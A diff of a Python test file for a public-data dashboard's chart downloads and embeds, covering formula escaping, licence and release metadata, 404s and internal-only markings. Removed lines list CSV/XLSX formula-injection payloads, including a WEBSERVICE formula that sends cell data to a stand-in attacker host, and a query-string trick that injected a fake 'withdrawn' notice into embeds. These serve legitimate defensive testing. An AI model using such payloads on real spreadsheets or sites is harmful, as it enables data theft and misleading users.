@@ -1,44 +1,21 @@
-"""No spreadsheet or CSV injection, and only the filters applied are printed (issue 12, rows "formula injection in
-XLSX downloads" and "embeds print the raw query string")."""
+"""Downloads of the numbers behind each chart (dashboard/exports/downloads.py) over a real release: exactly the cells of
+the chart's table, with the release and the licence, no cell a spreadsheet would run as a formula, only the filters
+applied; internal ones marked not for publication."""
 
 from __future__ import annotations
 
-import csv
 import io
-import zipfile
 
 import openpyxl
-import pandas as pd
 import pytest
 
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/","Open the full data")',
-    '=WEBSERVICE("http://evil.example/?"&A2)',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1:A9)",
-    "\t=1",
-    "\r=1",
-]
+from tests.support.signin import https_client, sign_in
+from tests.support.spreadsheets import FORMULAS, no_formulas
 
 
 @pytest.fixture(scope="module")
 def app(public_app):
     return public_app  # built once per session (tests/conftest.py); tests here only send it requests
-
-
-def _cells(book):
-    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
-
-
-def _no_formulas(xlsx: bytes) -> None:
-    """Not one formula in the file: openpyxl sees none, and no sheet's XML holds an <f> element."""
-    book = openpyxl.load_workbook(io.BytesIO(xlsx))
-    assert [c.coordinate for c in _cells(book) if c.data_type == "f"] == []
-    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
-        for name in z.namelist():
-            if name.startswith("xl/worksheets/"):
-                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
 
 
 @pytest.mark.parametrize("formula", FORMULAS[:2])
@@ -49,7 +26,7 @@ def test_a_formula_in_the_query_string_never_reaches_the_xlsx(app, formula):
         "/download/reach/reach-gender.xlsx", query_string=[("", formula), ("programme", "divert")]
     )
     assert response.status_code == 200
-    _no_formulas(response.data)
+    no_formulas(response.data)
     about = {
         row[0]: row[1]
         for row in openpyxl.load_workbook(io.BytesIO(response.data))["about"].iter_rows(min_row=2, values_only=True)
@@ -63,7 +40,7 @@ def test_a_search_that_looks_like_a_formula_is_text_in_every_file(app):
     query = [("q", FORMULAS[0])]
     xlsx = app.server.test_client().get("/download/services/services-directory.xlsx", query_string=query)
     assert xlsx.status_code == 200
-    _no_formulas(xlsx.data)
+    no_formulas(xlsx.data)
     about = {
         row[0]: row[1]
         for row in openpyxl.load_workbook(io.BytesIO(xlsx.data))["about"].iter_rows(min_row=2, values_only=True)
@@ -73,52 +50,6 @@ def test_a_search_that_looks_like_a_formula_is_text_in_every_file(app):
     assert csv_response.status_code == 200 and '"' not in csv_response.headers["Content-Disposition"].split(
         "filename="
     )[1].strip('"')
-
-
-def test_text_cells_from_data_are_escaped_and_numbers_are_not():
-    """Cells from data (a provider's service name) are escaped as text; negative numbers stay numbers."""
-    from dashboard.ui import spreadsheet
-
-    frame = pd.DataFrame({"Service": [*FORMULAS, "Mentoring", "-"], "Change": [-5, 3, -2.5, 0, 1, 2, 3, -7, 4]})
-    rows = list(csv.reader(io.StringIO(spreadsheet.csv_bytes(frame).decode(), newline="")))
-    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + ["Mentoring", "'-"]
-    assert [r[1] for r in rows[1:]] == ["-5.0", "3.0", "-2.5", "0.0", "1.0", "2.0", "3.0", "-7.0", "4.0"]
-
-    xlsx = spreadsheet.xlsx_bytes({"data": frame})
-    _no_formulas(xlsx)
-    sheet = openpyxl.load_workbook(io.BytesIO(xlsx))["data"]
-    names = [c.value for c in sheet["A"][1:]]
-    # The text as it is, typed as text (XML reads a bare carriage return as a line feed: still not a formula).
-    assert names == [f.replace("\r", "\n") for f in FORMULAS] + ["Mentoring", "-"]
-    assert all(c.data_type == "s" for c in sheet["A"])
-    assert [c.value for c in sheet["B"][1:]] == [-5, 3, -2.5, 0, 1, 2, 3, -7, 4] and all(
-        c.data_type == "n" for c in sheet["B"][1:]
-    )
-
-
-def test_mixed_columns_keep_numbers_as_numbers():
-    from dashboard.ui import spreadsheet
-
-    frame = pd.DataFrame({"Young people": [-5, "[c]", "=1", 10]})
-    assert [r[0] for r in csv.reader(io.StringIO(spreadsheet.csv_bytes(frame).decode(), newline=""))][1:] == [
-        "-5",
-        "[c]",
-        "'=1",
-        "10",
-    ]
-
-
-def test_embeds_print_only_the_filters_applied(app):
-    """The issue's reproduction: /embed/reach/reach-gender?Correction=These+figures+were+withdrawn+by+the+VRU printed
-    the text under the real figures. Now the Filters line and the link back hold the cleaned filters only."""
-    client = app.server.test_client()
-    html = client.get("/embed/reach/reach-gender?Correction=These+figures+were+withdrawn+by+the+VRU").data.decode()
-    assert (
-        "withdrawn" not in html and "Correction" not in html and "Filters: period: " in html
-    )  # the latest year, as shown
-    html = client.get("/embed/reach/reach-gender?programme=divert&period=1999-00&Correction=withdrawn").data.decode()
-    assert "withdrawn" not in html and "Filters: programme: divert, period: " in html and "1999-00" not in html
-    assert 'href="/reach?programme=divert' in html
 
 
 def test_downloads_and_images_print_only_the_filters_applied(app):
@@ -131,3 +62,60 @@ def test_downloads_and_images_print_only_the_filters_applied(app):
     assert "withdrawn" not in about["Filters"] and "programme=divert" in about["Filters"]
     page = client.get("/reach?Correction=These+figures+were+withdrawn").data.decode()
     assert page.count('data-notes="Filters: ') >= 1 and "withdrawn" not in page
+
+
+def test_downloads_hold_exactly_the_cells_of_the_chart_table(app):
+    """Given the reach page for DIVERT in 2023-24, when the gender chart's CSV is downloaded, then its rows
+    are the table's rows (with [c] where suppressed), the release and the licence, under a readable name."""
+    import csv
+    import io
+
+    from dashboard.data import release_context
+    from dashboard.pages import reach
+
+    client = app.server.test_client()
+    params = {"programme": "divert", "period": "2023-24"}
+    response = client.get("/download/reach/reach-gender.csv", query_string=params)
+    assert response.status_code == 200
+    assert 'filename="london-vru-reach-gender-divert-2023-24-release-' in response.headers["Content-Disposition"]
+    rows = list(csv.DictReader(io.StringIO(response.data.decode())))
+    with app.server.test_request_context("/"):
+        ctx = release_context.for_request()
+        table = reach.BREAKDOWNS[1].view_for(ctx, reach.PAGE.values(ctx, params)).table
+    shown = [(r["category"], r["shown"]) for _, r in table.frame.iterrows()]
+    assert [(r["Gender"], r["Young people"]) for r in rows] == [(c, v.replace(",", "")) for c, v in shown]
+    assert {r["licence"] for r in rows} == {"Open Government Licence v3.0"}
+
+
+def test_xlsx_download_has_the_data_and_an_about_sheet(app):
+    import io
+
+    import openpyxl
+
+    response = app.server.test_client().get("/download/spend/spend-budget.xlsx")
+    assert response.status_code == 200
+    book = openpyxl.load_workbook(io.BytesIO(response.data))
+    assert book.sheetnames == ["data", "about"]
+    about = {row[0]: row[1] for row in book["about"].iter_rows(min_row=2, values_only=True)}
+    assert (
+        about["Licence"].startswith("Open Government Licence v3.0")
+        and about["Source"] == "London Violence Reduction Unit"
+    )
+
+
+@pytest.mark.parametrize(
+    "url", ["/download/reach/no-such-chart.csv", "/download/nowhere/reach-trend.csv", "/download/reach/reach-trend.pdf"]
+)
+def test_unknown_downloads_are_404(app, url):
+    assert app.server.test_client().get(url).status_code == 404
+
+
+def test_internal_downloads_are_marked_not_for_publication(internal_app):
+    """Given a signed-in director, when a chart's numbers are downloaded, then the file carries the internal
+    marking, not the open licence, and internal embeds may not be framed."""
+    c = https_client(internal_app)
+    sign_in(c)
+    csv_text = c.get("/download/reach/reach-trend.csv").data.decode()
+    assert "not for publication" in csv_text and "Open Government Licence" not in csv_text
+    embed = c.get("/embed/reach/reach-trend")
+    assert "frame-ancestors 'none'" in embed.headers["Content-Security-Policy"]
